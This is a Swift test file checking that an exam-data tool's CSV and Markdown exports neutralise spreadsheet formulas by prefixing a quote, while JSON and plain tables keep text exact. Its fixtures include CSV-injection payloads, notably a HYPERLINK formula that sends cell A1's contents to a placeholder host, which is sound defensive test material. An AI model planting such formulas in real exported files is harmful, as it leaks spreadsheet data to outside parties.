import Testing
import ExamStore
import ExamDemo
import ExamQuery

/// CSV and Markdown answers are opened in spreadsheets: text that a spreadsheet would run as a
/// formula gets a `'` in front; numbers, dates and yes/no are written as they are.
@Suite struct SpreadsheetExportTests {
    /// A candidate whose surname is a formula, a phone-number-like group and an `@` name, with a
    /// negative number of days and a date beside them.
    static func answer() -> Answer {
        let pool = StringPool()
        return Answer(
            names: ["surname", "group", "forenames", "days_left", "deadline", "note"],
            columns: [
                .string(["=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")", "Smith"]),
                .string(["+44 1632 960000", "13X"]),
                .string(["@SUM(A1:A9)", "-Ann"]),
                .number([-5, 3]),
                .date([Day(year: 2024, month: 8, day: 22)!, Day(year: 2024, month: 9, day: 26)!]),
                .string(["\tcmd", "\r=1+1"]),
            ],
            rowCount: 2, pool: pool)
    }

    @Test func csvNeutralisesFormulasAndKeepsNumbersAndDates() {
        let lines = OutputFormat.csv.render(Self.answer(), dates: .iso).split(separator: "\n", omittingEmptySubsequences: false)
        #expect(lines[0] == "surname,group,forenames,days_left,deadline,note")
        #expect(lines[1] == #""'=HYPERLINK(""http://x.example/?""&A1,""Click"")",'+44 1632 960000,'@SUM(A1:A9),-5,2024-08-22,'"# + "\tcmd")
        #expect(lines[2] == #"Smith,13X,'-Ann,3,2024-09-26,"'"# + "\r" + #"=1+1""#)
    }

    @Test func markdownNeutralisesFormulasAndKeepsNumbers() {
        let text = OutputFormat.markdown.render(Self.answer(), dates: .iso)
        #expect(text.contains("| '=HYPERLINK(\"http://x.example/?\"&A1,\"Click\") | '+44 1632 960000 | '@SUM(A1:A9) | -5 | 2024-08-22 |"))
        #expect(text.contains("| Smith | 13X | '-Ann | 3 | 2024-09-26 |"))
    }

    @Test func jsonAndTablesKeepTextExactly() {
        #expect(OutputFormat.json.render(Self.answer(), dates: .iso).contains(#""surname": "=HYPERLINK("#))
        #expect(OutputFormat.json.render(Self.answer(), dates: .iso).contains(#""days_left": -5"#))
        #expect(OutputFormat.table.render(Self.answer(), dates: .iso).contains("=HYPERLINK("))
    }

    @Test func aColumnNamedLikeAFormulaIsNeutralisedToo() throws {
        let store = DemoCentre.make()
        let text = #"reviews | where id = "R004" | show id, deadline - today as "=days", days_left"#
        let pipeline = try Parser.parse(text)
        let ev = Evaluator(store: store, today: Day(year: 2024, month: 8, day: 27)!, series: "Summer 2024", source: SourceText(text))
        guard case .table(let t, _) = try ev.run(pipeline) else { Issue.record("no table"); return }
        #expect(OutputFormat.csv.render(t, dates: .iso) == "id,'=days,days_left\nR004,-5,-5\n")
    }

    @Test func largeAnswersArriveInPiecesThatJoinToTheWhole() {
        let n = 20_000
        let answer = Answer(names: ["surname", "mark"], columns: [.string((0..<n).map { "name \($0)" }), .number((0..<n).map(Double.init))],
                            rowCount: n, pool: StringPool())
        for format in [OutputFormat.csv, .json, .markdown] {
            var pieces: [String] = []
            format.write(answer, dates: .iso) { pieces.append($0) }
            #expect(pieces.count > 2, "\(format) came in one piece")
            #expect(pieces.dropLast().allSatisfy { $0.utf8.count >= 1 << 16 && $0.utf8.count < (1 << 16) + 100 })
            #expect(pieces.joined() == format.render(answer, dates: .iso))
        }
    }
}
